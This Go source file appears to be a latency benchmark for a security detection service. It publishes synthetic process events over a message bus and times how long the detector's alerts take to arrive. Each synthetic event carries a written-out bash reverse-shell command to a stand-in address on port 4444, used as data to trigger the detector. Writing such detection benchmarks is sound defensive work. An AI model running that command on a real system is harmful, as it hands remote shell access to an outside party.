package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/hauberk/hauberk/bus"
	"github.com/hauberk/hauberk/bus/broker"
	"github.com/hauberk/hauberk/detect"
	"github.com/hauberk/hauberk/event"
	"github.com/hauberk/hauberk/internal/perf"
)

// latency measures how long after the acknowledgement-free publication of an
// event its alert is in the hands of a reader of the alerts topic.
func latency(ctx context.Context, report *perf.Report, samples int) error {
	dir, err := os.MkdirTemp("", "detectbench")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	config := broker.DefaultConfig()
	config.Dir, config.Socket = filepath.Join(dir, "bus"), filepath.Join(dir, "run", "bus.sock")
	ended := make(chan error, 2)
	go func() { ended <- broker.Run(ctx, config, broker.Deps{}) }()
	open := func(name string) (*bus.Client, error) {
		c := bus.DefaultConfig()
		c.Brokers, c.ClientID = []string{"unix:" + config.Socket}, name
		return bus.Open(ctx, c, nil, nil)
	}
	client, err := open("detect")
	if err != nil {
		return err
	}
	defer client.Close()
	node, err := open("gateway")
	if err != nil {
		return err
	}
	defer node.Close()
	d, err := detect.New(detect.DefaultConfig(), detect.Deps{Bus: client})
	if err != nil {
		return err
	}
	go func() { ended <- d.Run(ctx) }()
	arrived := make(chan string, 16)
	reader, err := open("reader")
	if err != nil {
		return err
	}
	defer reader.Close()
	go func() {
		err := reader.Tail(ctx, []string{bus.Alerts}, bus.FromStart(), func(_ context.Context, messages []bus.Message) error {
			for _, m := range messages {
				var a event.Alert
				if err := a.UnmarshalVT(m.Value); err != nil {
					return err
				}
				arrived <- a.Evidence[0].Id
			}
			return nil
		})
		if err != nil {
			ended <- err
		}
	}()
	var ms []float64
	for i := range samples + warmup {
		took, err := one(ctx, node, i, arrived, ended)
		if err != nil {
			return err
		}
		if i >= warmup {
			ms = append(ms, float64(took)/float64(time.Millisecond))
		}
	}
	median, p99 := perf.Median(ms), perf.Quantile(ms, 0.99)
	report.Add(perf.Figure{Name: "event published to alert read over the idle bus, median", Value: median, Unit: "ms", Target: "<= 30", Reached: median <= 30})
	report.Add(perf.Figure{Name: "event published to alert read over the idle bus, p99", Value: p99, Unit: "ms", Target: "<= 100", Reached: p99 <= 100})
	return nil
}

// warmup alerts are not counted: the group joins, connections open.
const warmup = 5

// one publishes an attack by another user each time, so that nothing folds,
// and waits for its alert.
func one(ctx context.Context, node *bus.Client, i int, arrived <-chan string, ended <-chan error) (time.Duration, error) {
	e := exec("/usr/bin/bash", []string{"bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}, []string{"/usr/sbin/nginx"}, "/")
	e.Process.Uid = uint32(10_000 + i)
	id := event.NewNodeID()
	b := event.NewBuilder(id, 1, event.Class_CLASS_BULK)
	began := time.Now()
	if err := b.Add(1, began.UnixNano(), 0, e); err != nil {
		return 0, err
	}
	batch := b.Take()
	batch.Tenant = "default"
	value, err := batch.MarshalVT()
	if err != nil {
		return 0, err
	}
	if err := node.Publish(ctx, bus.Message{Topic: bus.Events, Key: batch.Node, Value: value}); err != nil {
		return 0, err
	}
	want := event.ID{Node: id, Incarnation: 1, Sequence: 1}.String()
	for {
		select {
		case got := <-arrived:
			if got == want {
				return time.Since(began), nil
			}
		case err := <-ended:
			return 0, fmt.Errorf("bus or detect ended: %w", err)
		case <-time.After(30 * time.Second):
			return 0, fmt.Errorf("no alert for sample %d", i)
		case <-ctx.Done():
			return 0, ctx.Err()
		}
	}
}
